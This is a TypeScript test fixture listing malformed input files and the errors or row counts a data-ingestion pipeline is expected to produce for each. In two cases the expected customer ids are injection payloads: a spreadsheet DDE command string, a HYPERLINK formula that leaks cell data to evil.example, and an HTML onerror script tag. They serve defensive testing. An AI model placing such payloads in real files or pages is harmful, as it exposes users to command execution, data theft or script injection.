import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { RejectedRow, RowAccounting } from '../../../src/lib/ingest/index';

/**
 * The bad-input corpus (test/fixtures/bad/, see its README): one case per file
 * with what must happen when it is opened and loaded, in the app's ingestion
 * path and in the headless runner alike. Either `error`, the message (naming
 * the file) that stops it, or `rows`, the load's accounting, with the first
 * rejects and the customer ids the file leaves in its table.
 */
export interface BadInputCase {
  file: string;
  /** Given to the runner as `--feedback` rather than `--orders`. */
  feedback?: boolean;
  error?: string | RegExp;
  rows?: Partial<RowAccounting>;
  rejects?: Array<Pick<RejectedRow, 'row' | 'column' | 'reason'>>;
  /** Customer ids (sorted) of what the file loaded into its canonical table: text kept as written. */
  customers?: Array<string | null>;
  /** The outcome must come this fast (the engine's CSV sniffer can take tens of seconds to fail). */
  withinMs?: number;
}

export const BAD_DIR = path.resolve(fileURLToPath(new URL('.', import.meta.url)), '../../fixtures/bad');

/** The good file loaded before every bad one: its figures must not move. */
export const BASELINE = 'baseline_orders.csv';

const noData = (file: string) => `${file} has a header but no data rows.`;
const noDateOrAmount = (file: string) => new RegExp(`^${file.replace('.', '\\.')} has no date column: .* ${file.replace('.', '\\.')} has no amount column`);

export const BAD_INPUT: readonly BadInputCase[] = [
  { file: 'empty.csv', error: 'empty.csv is empty.' },
  { file: 'blank_lines.csv', error: 'blank_lines.csv is empty.' },
  { file: 'only_bom.csv', error: 'only_bom.csv is empty.' },
  { file: 'header_only.csv', error: noData('header_only.csv') },
  { file: 'header_only_no_newline.csv', error: noData('header_only_no_newline.csv') },
  { file: 'png_renamed.csv', error: 'png_renamed.csv is not a text file (it looks binary).' },
  { file: 'png_gzipped.csv.gz', error: 'png_gzipped.csv.gz is not a text file (it looks binary).' },
  { file: 'xlsx_renamed.csv', error: 'xlsx_renamed.csv is a ZIP archive or an Excel workbook, not a text file: export the sheet as CSV and load that.' },
  { file: 'nul_bytes.csv', error: 'nul_bytes.csv is not a text file (it looks binary).' },
  { file: 'truncated.csv.gz', error: 'truncated.csv.gz is a damaged or incomplete gzip file: its compressed data ends too early. Download or export it again.' },
  { file: 'gzip_header_only.csv.gz', error: 'gzip_header_only.csv.gz is a damaged or incomplete gzip file: its compressed data ends too early. Download or export it again.' },
  { file: 'zero_byte.csv.gz', error: 'zero_byte.csv.gz is empty.' },
  { file: 'empty_content.csv.gz', error: 'empty_content.csv.gz is empty.' },
  { file: 'invalid_utf8.csv', rows: { read: 3, loaded: 3, rejected: 0 }, customers: ['c\u00c3(', '\u20acd', 'u3'] },
  { file: 'utf8_bom.csv', rows: { read: 2, loaded: 2 }, customers: ['jürgen', 'zoë'] },
  { file: 'utf16le_bom.csv', rows: { read: 2, loaded: 2 }, customers: ['jürgen', 'zoë'] },
  { file: 'utf16be_bom.csv', rows: { read: 2, loaded: 2 }, customers: ['jürgen', 'zoë'] },
  { file: 'long_line.csv', error: 'long_line.csv has a line longer than DuckDB reads (line 2); it is probably not a CSV file, or a quote is never closed.', withinMs: 15_000 },
  { file: 'wide.csv', rows: { read: 2, loaded: 2 }, customers: ['w1', 'w2'] },
  { file: 'huge_field.csv', rows: { read: 2, loaded: 2 }, customers: ['w'.repeat(200_000), 'w2'] },
  { file: 'unbalanced_quotes.csv', error: 'unbalanced_quotes.csv has a quoted field that is never closed (from line 3). Check the quoting of that line.' },
  { file: 'stray_quote_late.csv', error: 'stray_quote_late.csv has a quoted field that is never closed (from line 4). Check the quoting of that line.' },
  { file: 'duplicate_headers.csv', rows: { read: 2, loaded: 2 }, customers: ['d1', 'd2'] },
  { file: 'all_headers_same.csv', error: noDateOrAmount('all_headers_same.csv') },
  {
    file: 'year_0_and_9999.csv',
    rows: { read: 5, loaded: 1, rejected: 4 },
    rejects: [
      { row: 1, column: 'ordered_at', reason: 'date out of range' },
      { row: 2, column: 'ordered_at', reason: 'date out of range' },
      { row: 4, column: 'ordered_at', reason: 'date out of range' },
      { row: 5, column: 'ordered_at', reason: 'date out of range' },
    ],
    customers: ['y3'],
  },
  {
    file: 'negative_and_absurd_totals.csv',
    rows: { read: 6, loaded: 5, rejected: 1 },
    rejects: [{ row: 3, column: 'revenue', reason: 'unreadable number' }],
    customers: ['a1', 'a2', 'a4', 'a5', 'a6'],
  },
  {
    file: 'nan_infinity.csv',
    rows: { read: 6, loaded: 1, rejected: 5 },
    rejects: [1, 2, 3, 4, 5].map((row) => ({ row, column: 'revenue', reason: 'unreadable number' })),
    customers: ['f6'],
  },
  {
    file: 'formula_text.csv',
    rows: { read: 4, loaded: 3, rejected: 1 },
    rejects: [{ row: 4, column: 'revenue', reason: 'unreadable number' }],
    customers: ['+cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?"&A1,"click")', '@sum(1+1)'], // an id with @ is an e-mail address: lower case
  },
  { file: 'html_names.csv', rows: { read: 2, loaded: 2 }, customers: ['<img src=x onerror=alert(1)>', 'h2'] },
  {
    file: 'mixed_date_formats.csv',
    // 20240105 is a compact YYYYMMDD date (as the CDNOW files write them); the epoch and the words are not dates.
    rows: { read: 8, loaded: 6, rejected: 2 },
    rejects: [
      { row: 6, column: 'ordered_at', reason: 'unreadable date' },
      { row: 8, column: 'ordered_at', reason: 'unreadable date' },
    ],
    customers: ['m1', 'm2', 'm3', 'm4', 'm5', 'm7'],
  },
  { file: 'not_array.json', error: noDateOrAmount('not_array.json') },
  { file: 'scalar.json', error: noData('scalar.json') },
  { file: 'array_of_scalars.json', error: 'array_of_scalars.json: record 1 is not an object, so it has no named fields.' },
  { file: 'empty_array.json', error: 'empty_array.json has no records.' },
  { file: 'truncated.json', error: /^truncated\.json is not valid JSON: / },
  { file: 'broken_line.ndjson', error: /^broken_line\.ndjson line 3 is not valid JSON: / },
  { file: 'not_really.parquet', error: /^not_really\.parquet could not be read as Parquet: / },
  { file: 'truncated.parquet', error: /^truncated\.parquet could not be read as Parquet: / },
  { file: 'zero_byte.parquet', error: 'zero_byte.parquet is empty.' },
  {
    file: 'wrong_types.parquet',
    // Integer dates 20240101/20240102 read as YYYYMMDD: W2 (6.5) loads; text, NaN, epoch and -5 are rejected.
    rows: { read: 4, loaded: 1, rejected: 3 },
    rejects: [
      { row: 1, column: 'revenue', reason: 'unreadable number' },
      { row: 3, column: 'ordered_at', reason: 'unreadable date' },
      { row: 4, column: 'ordered_at', reason: 'unreadable date' },
    ],
    customers: ['2'],
  },
  {
    file: 'feedback_out_of_range.csv',
    feedback: true,
    rows: { read: 7, loaded: 5, rejected: 2 },
    rejects: [
      { row: 4, column: 'rating', reason: 'score outside the 0–10 scale' },
      { row: 7, column: 'rating', reason: 'missing score' },
    ],
    customers: ['r1', 'r2', 'r3', 'r5', 'r6'],
  },
  {
    file: 'feedback_nps_out_of_range.csv',
    feedback: true,
    rows: { read: 5, loaded: 2, rejected: 3 },
    rejects: [2, 3, 5].map((row) => ({ row, column: 'nps', reason: 'score outside the 0–10 scale' })),
    customers: ['n1', 'n4'],
  },
  { file: 'crlf.csv', rows: { read: 2, loaded: 2 }, customers: ['c1', 'c2'] },
  { file: 'cr_only.csv', rows: { read: 3, loaded: 3 }, customers: ['c1', 'c2', 'c3'] },
  {
    file: 'mixed_line_ends.csv',
    error: 'mixed_line_ends.csv is not CSV DuckDB can read: its line ends are probably mixed (CRLF with LF or CR) or a quote is out of place. Save it again as CSV with one kind of line end.',
  },
  { file: 'delimiter_changes.csv', error: 'delimiter_changes.csv has ragged rows: line 12 has 2 fields where the header has 4. Check the delimiter and the quoting of that line.' },
  { file: 'trailing_empty_columns.csv', rows: { read: 2, loaded: 2 }, customers: ['t1', 't2'] },
  { file: 'only_delimiters.csv', error: noDateOrAmount('only_delimiters.csv') },
  {
    file: 'no_header.csv',
    error: 'no_header.csv has no header row: its first line (N1,n1_2,2024-01-01,5) looks like data. Add a first line naming the columns.',
  },
  { file: 'html_error_page.csv', error: noDateOrAmount('html_error_page.csv') },
  {
    file: 'all_rows_rejected.csv',
    rows: { read: 3, loaded: 0, rejected: 3 },
    rejects: [
      { row: 1, column: 'ordered_at', reason: 'unreadable date' },
      { row: 2, column: 'ordered_at', reason: 'unreadable date' },
      { row: 3, column: 'ordered_at', reason: 'missing date' },
    ],
    customers: [],
  },
  {
    file: 'missing_amounts.csv',
    rows: { read: 3, loaded: 1, rejected: 2 },
    rejects: [
      { row: 1, column: 'revenue', reason: 'missing amount' },
      { row: 2, column: 'revenue', reason: 'unreadable number' },
    ],
    customers: ['v3'],
  },
  { file: 'exact_duplicates.csv', rows: { read: 4, loaded: 2, duplicates: 2 }, customers: ['p1', 'p2'] },
  { file: 'control_chars.csv', rows: { read: 3, loaded: 3 }, customers: ['z\u0001z', 'z\u001bz', 'z3'] },
  { file: 'lines_negative.csv', rows: { read: 4, loaded: 2, cancelled: 2 }, customers: [null, null] },
];

/** Files too big to keep in the repository, made when a test asks for them. */
const GENERATED: Record<string, () => string> = {
  // One 5 MiB line: more than the 64 KiB head inspection reads.
  'long_line.csv': () => `order_id,customer_id,ordered_at,revenue\nL1,${'x'.repeat(5 * 1024 * 1024)},2024-01-01,5\nL2,l2,2024-01-02,6\n`,
  // 5,000 columns, the first four the canonical ones.
  'wide.csv': () => {
    const header = ['order_id', 'customer_id', 'ordered_at', 'revenue', ...Array.from({ length: 4996 }, (_, i) => `extra_${i + 1}`)];
    const row = (k: number) => [`W${k}`, `w${k}`, `2024-01-0${k}`, String(k), ...Array.from({ length: 4996 }, () => '')].join(',');
    return `${header.join(',')}\n${row(1)}\n${row(2)}\n`;
  },
};

/** Whether a case's file is generated at test time rather than kept in test/fixtures/bad/. */
export function isGenerated(file: string): boolean {
  return file in GENERATED;
}

/** The bytes of a corpus file, read from test/fixtures/bad/ or generated. */
export function badInputBytes(file: string): Uint8Array {
  const generate = GENERATED[file];
  if (generate) return new TextEncoder().encode(generate());
  const at = path.join(BAD_DIR, file);
  if (!existsSync(at)) throw new Error(`No corpus file ${file} in ${BAD_DIR}.`);
  return new Uint8Array(readFileSync(at));
}

/** What every failure message must be: one line, naming the file, without "undefined" or a stack frame. */
export function readableMessage(file: string, message: string): string[] {
  const problems: string[] = [];
  if (!message.includes(file)) problems.push('does not name the file');
  if (message.includes('\n')) problems.push('spans several lines');
  if (/undefined|\[object /.test(message)) problems.push('says "undefined"');
  if (/\bat .+:\d+:\d+/.test(message)) problems.push('holds a stack frame');
  return problems;
}
